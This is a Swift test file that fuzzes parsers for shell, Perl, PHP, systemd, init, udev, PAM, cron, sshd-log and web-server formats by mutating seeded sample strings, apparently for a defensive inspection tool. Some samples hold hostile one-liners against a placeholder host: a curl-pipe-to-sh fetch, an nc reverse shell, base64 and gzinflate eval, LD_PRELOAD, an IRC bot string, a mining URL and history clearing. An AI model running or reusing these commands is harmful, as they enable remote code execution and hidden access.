import Formats
import Model
import Testing

/// A small generator with a fixed seed (SplitMix64), so that a failure comes again.
private struct Seeded: RandomNumberGenerator {
    var state: UInt64
    mutating func next() -> UInt64 {
        state &+= 0x9e37_79b9_7f4a_7c15
        var z = state
        z = (z ^ (z >> 30)) &* 0xbf58_476d_1ce4_e5b9
        z = (z ^ (z >> 27)) &* 0x94d0_49bb_1331_11eb
        return z ^ (z >> 31)
    }
}

@Suite struct `Every parser of services` {
    private static let samples: [String] = [
        "#!/bin/sh\nif [ -x /p ]; then A=1 sudo -u x /p \"$(curl http://h | sh)\" <<E >f 2>&1\nt\nE\nfi\ncase $1 in a) x;; esac; f() { y; }; [[ a ]] && b=(1 2) `z`\n",
        "#!/usr/bin/perl\n# c\nsystem(\"cd /tmp && ./x\"); eval(base64_decode('x')); $ENV{LD_PRELOAD}='x'; print \"JOIN #x PRIVMSG \"; irc.x 6667\n",
        "<?php /* c */ exec('nc -e /bin/sh h 1'); fsockopen(); eval(@gzinflate(x)); stratum+tcp://h ?>\n",
        "#1299868200\nls\n: 1299868200:0;unset HISTFILE\n- cmd: x\n  when: 1\n",
        "[Unit]\nA=b \\\n c\n[Service]\nExecStart=@-/x y z ; /w \"q\\\"\nEnvironment=\"A=b c\" D=e\n[Timer]\nOnCalendar=*:0/5\n",
        "id:2:respawn:/x\n", "start on x\npre-start script\na\nend script\nenv A=\"b\"\n",
        "### BEGIN INIT INFO\n# Provides: x\n### END INIT INFO\nDAEMON=/x\n",
        "ACTION==\"add\", RUN+=\"/x \\\"y\\\"\", PROGRAM=e\"a\\n\"\n", "auth [a=b c] m.so x\n@include y\n-session include z\n",
        "[Desktop Entry]\nExec=x %U\nHidden=true\n", "DPkg { Post-Invoke { \"a\"; }; }; // c\nAPT::X:: \"y\"; /* z */\n",
        "Mar 12 00:30:01 h CRON[1]: (root) CMD (x)\nMar 12 00:30:01 h crontab[1]: (a) REPLACE (b)\n2011-03-12T00:30:01+09:00 h crond[1]: USER r pid 1 cmd y\n",
        "Mar 12 00:30:01 h sshd[1]: Accepted password for a from 192.0.2.1 port 1 ssh2\nJan  1 00:00:00 h sshd[1]: message repeated 5 times: [ Failed password for invalid user b from ::1 port 1]\nSat Mar 12 00:30:01 2011 [pid 1] [c] OK LOGIN: Client \"192.0.2.1\"\n",
        "<VirtualHost *>\nDocumentRoot \"/x\"\n<Directory /y>\nOptions +ExecCGI\n</Directory>\n</VirtualHost>\n",
        "http { server { root /x; location / { alias '/y'; } access_log ${z} f; } }\n",
        "server.document-root = \"/x\"\ninclude_shell \"y\"\n",
    ]

    @Test(arguments: FormatParser.services.indices)
    func `returns for any damage to a good sample`(index: Int) {
        let parser = FormatParser.services[index]
        var random = Seeded(state: 20_110_312 &+ UInt64(index))
        let marks = Array("\n\r\t\0 '\"`$(){}[]<>|&;#\\=/:.,@+-0z".utf8) + [0xff, 0xc0]
        var rounds = 0
        for sample in Self.samples {
            for _ in 0..<16 {
                var bytes = Array(sample.utf8)
                for _ in 0..<Int.random(in: 1...6, using: &random) {
                    let at = Int.random(in: 0..<max(1, bytes.count), using: &random)
                    let mark = marks.randomElement(using: &random) ?? 0
                    switch Int.random(in: 0..<4, using: &random) {
                    case 0 where at < bytes.count: bytes[at] = mark
                    case 1: bytes.insert(mark, at: min(at, bytes.count))
                    case 2: bytes.removeSubrange(min(at, bytes.count)..<min(at + 7, bytes.count))
                    default: bytes = Array(bytes.prefix(at)) + bytes
                    }
                }
                if parser.run(bytes.span) >= 0 { rounds += 1 }
            }
        }
        #expect(rounds == Self.samples.count * 16)
    }

    @Test(arguments: FormatParser.services.indices)
    func `returns for nothing, for one byte, and for a long run of one byte`(index: Int) {
        let parser = FormatParser.services[index]
        func problems(_ bytes: [UInt8]) -> Int { parser.run(bytes.span) }
        #expect(problems([]) >= 0)
        for byte in Array("\n '\"`$({[<|;#\\=:a".utf8) + [0, 0xff] {
            #expect(problems([byte]) >= 0)
            #expect(problems([UInt8](repeating: byte, count: 5_000)) >= 0)
        }
    }
}
